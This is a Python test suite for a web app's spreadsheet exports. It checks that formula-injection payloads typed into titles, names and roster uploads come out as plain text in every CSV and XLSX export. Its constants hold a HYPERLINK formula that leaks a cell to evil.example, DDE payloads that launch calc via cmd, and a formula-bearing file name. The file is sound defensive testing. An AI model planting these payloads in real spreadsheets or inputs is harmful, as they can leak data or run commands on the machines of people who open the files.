"""Spreadsheet formula injection replayed on every export the pages offer: no cell runs as a formula.

The exports are enumerated from the app (every route whose view sends a file, every list source of
/export/<source>), so a new export fails `test_every_export_is_replayed` until it is added here.
"""

from __future__ import annotations

import inspect
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from tests.roster_files import csv_bytes, deputies
from tests.web.helpers import text
from tests.web.test_web_export import broker  # noqa: F401  (a fixture: the background export)
from tests.web.test_web_published_reports import publish
from tracker.extensions import db
from tracker.models import Job, User
from tracker.web.exports.sources import SOURCES
from tracker.workflow import State
from workers.tasks.exports import run_export

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")'
# The other starts OWASP names: plus, minus, at, tab, carriage return.
OTHERS = ("+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
          "\t=1+1", "\r=1+1")
FILE_NAME = "=HYPERLINK(evil.example?A1) 名册.csv"  # a roster file's name is in its report

# Served files that are not spreadsheets the app writes: an attachment goes back exactly as uploaded;
# an old public link only moves (308) to the congress's own report file.
NOT_EXPORTS = {"attachments.download", "public_moved.report_file"}
# A view sends a file itself (send_file) or through a shared sender (send_export_file, the export
# pages' and the API's finished export job).
SENDS = re.compile(r"\bsend_(export_)?file\(")


def sends_files(app) -> set[str]:
    endpoints = set()
    for rule in app.url_map.iter_rules():
        view = app.view_functions[rule.endpoint]
        if SENDS.search(inspect.getsource(view)) or rule.rule.endswith((".xlsx", ".csv")):
            endpoints.add(rule.endpoint)
    return endpoints


def formulas_in(data: bytes) -> list[str]:
    """Every formula in the workbook's sheets, as its XML writes it."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return [f for name in book.namelist() if name.startswith("xl/worksheets/")
                for f in re.findall(r"<f\b.*?</f>", book.read(name).decode())]


def texts_in(data: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(data))
    return {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row
            if isinstance(c.value, str)}


@pytest.fixture(autouse=True)
def uploads(app, tmp_path, monkeypatch):
    monkeypatch.setattr(app, "instance_path", str(tmp_path))


@pytest.fixture
def poisoned(world, item_in):
    """Items titled with the attack in every list's state; a unit and a category named with it too."""
    made = {state: item_in(state, title=PAYLOAD) for state in
            (State.GROUP_REVIEW, State.REGISTERED, State.IN_HANDLING, State.REPLIED, State.CLOSED)}
    for n, other in enumerate(OTHERS):
        item_in(State.IN_HANDLING, title=other + f" {n}")
    world.unit.name = PAYLOAD
    world.category.name = "@" + PAYLOAD
    db.session.commit()
    return made


def _roster_report(auth, world, _request):
    client = auth.as_(world.admin)
    rows = deputies(2)
    rows[0][0], rows[1][2] = PAYLOAD, "+86 110"
    client.post("/admin/roster/", data={"kind": "deputies", "file": (io.BytesIO(csv_bytes(rows)), FILE_NAME)},
                content_type="multipart/form-data")
    job = db.session.scalar(select(Job))
    return client.get(f"/admin/roster/{job.id}/report.xlsx"), FILE_NAME


def _published_report(auth, world, _request):
    office = auth.as_(world.office)
    publish(office, year=2026)
    return office.get("/public/chengdong/reports/year-2026.xlsx"), PAYLOAD


def _background(auth, world, request):
    request.getfixturevalue("broker")  # a tiny inline limit and a queue of the test's own
    client = auth.as_(world.office)
    client.get("/export/items")
    job = db.session.scalar(select(Job))
    run_export(job.id)
    return client.get(f"/jobs/{job.id}/download"), PAYLOAD


def _get(url: str, who: str | None, payload: str = PAYLOAD):
    def fetch(auth, world, _request):
        client = auth.as_(getattr(world, who)) if who else auth.client
        return client.get(url), payload
    return fetch


# (endpoint, list source) -> how to fetch it with the attack in it.
EXPORTS = {
    ("exports.export", "items"): _get("/export/items", "office"),
    ("exports.export", "inbox"): _get("/export/inbox", "handler"),
    ("exports.export", "review"): _get("/export/review", "group_leader"),
    ("exports.export", "routing"): _get("/export/routing", "office"),
    ("exports.export", "search"): _get("/export/search?q=HYPERLINK", "office"),
    ("exports.export", "public"): _get("/export/public", None),  # anonymous
    ("exports.download", None): _background,
    ("dashboard.report_file", None): _get("/reports/yearly.xlsx?year=2026", "supervisor"),
    ("public.report_file", None): _published_report,
    ("admin_roster.report", None): _roster_report,
    ("admin_roster.template_file", None): _get("/admin/roster/template/deputies.xlsx", "admin", "姓名"),
}


def test_every_export_is_replayed(app):
    found = {(e, None) for e in sends_files(app) - NOT_EXPORTS - {"exports.export"}}
    found |= {("exports.export", source) for source in SOURCES}
    assert found == set(EXPORTS)


@pytest.mark.parametrize("export", list(EXPORTS), ids=lambda e: e[1] or e[0])
def test_no_exported_cell_is_a_formula(auth, world, poisoned, request, export):
    response, payload = EXPORTS[export](auth, world, request)
    assert response.status_code == 200, response.status_code
    data = response.data
    response.close()
    assert formulas_in(data) == []
    assert payload in texts_in(data)  # the attack is there, as the text it was typed as


def test_the_other_formula_starts_are_text_too(auth, world, poisoned):
    data = auth.as_(world.office).get("/export/items").data
    texts = texts_in(data)
    assert formulas_in(data) == []
    assert all(any(t.startswith(other) for t in texts) for other in OTHERS)
    # Excel's quote prefix: the cell stays text when someone edits it.
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    titled = [c for row in ws.iter_rows() for c in row if c.value == PAYLOAD]
    assert titled and all(c.data_type == "s" and c.quotePrefix for c in titled)


def test_the_public_page_itself_shows_the_title_as_text(client, world, poisoned):
    assert "=HYPERLINK(&#34;http://evil.example/" in text(client.get("/public/chengdong"))


def test_an_imported_roster_takes_a_formula_like_text_as_text(auth, world):
    """A name typed as `=…` in a roster is kept as the text it is (exports then write it as text)."""
    client = auth.as_(world.admin)
    rows = deputies(1)
    rows[0][0] = "=1+1"
    client.post("/admin/roster/", data={"kind": "deputies", "file": (io.BytesIO(csv_bytes(rows)), "a.csv")},
                content_type="multipart/form-data")
    job = db.session.scalar(select(Job))
    client.post(f"/admin/roster/{job.id}/confirm")
    assert db.session.scalar(select(User.name).where(User.name == "=1+1")) == "=1+1"
